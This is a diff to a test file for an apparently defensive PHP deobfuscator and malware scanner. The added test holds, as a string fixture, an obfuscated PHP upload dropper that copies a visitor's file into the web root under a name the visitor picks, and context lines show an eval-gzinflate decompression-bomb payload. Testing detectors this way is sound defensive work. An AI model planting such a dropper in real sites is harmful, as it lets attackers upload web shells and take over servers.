@@ -68,6 +68,25 @@ describe('PHP constant expressions', () => {
     expect(foldPhpConstants(text)).toBe(text);
   });
 
+  it('names the variables an obfuscator reaches through a table in $GLOBALS', () => {
+    const upload = [
+      '<?php ${"GL\\x4fBALS"}["qzt"]="\\x6eame"; ${"GLOBALS"}["wkr"]="to";',
+      '${${"GLOBALS"}["qzt"]}=$_FILES["f"]["name"];',
+      '${${"GLOBALS"}["wkr"]}=$_SERVER["DOCUMENT_ROOT"]."/".${${"GLOBALS"}["qzt"]};',
+      'if(@copy($_FILES["f"]["tmp_name"],${${"GLOBALS"}["wkr"]})){echo "ok";}',
+    ].join('');
+    expect(foldPhpConstants(upload)).toContain(
+      `$to=$_SERVER["DOCUMENT_ROOT"]."/".$name;if(@copy($_FILES["f"]["tmp_name"],$to))`,
+    );
+    expect(judge(upload)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
+    });
+    // A key set to two names holds either, depending on the run: left as written.
+    const twice = `<?php $GLOBALS['k'] = 'a'; $GLOBALS['k'] = 'b'; echo \${$GLOBALS['k']}; ?>`;
+    expect(foldPhpConstants(twice)).toBe(twice);
+  });
+
   it('stays bounded on hostile input: deep nesting, a decompression bomb, many pieces', () => {
     const deep = `<?php $x = ${'('.repeat(5000)}'a'${')'.repeat(5000)}; ?>`;
     const bomb = `<?php eval(gzinflate(base64_decode('${b64(deflateRawSync(Buffer.alloc(50 * 1024 * 1024)))}'))); ?>`;
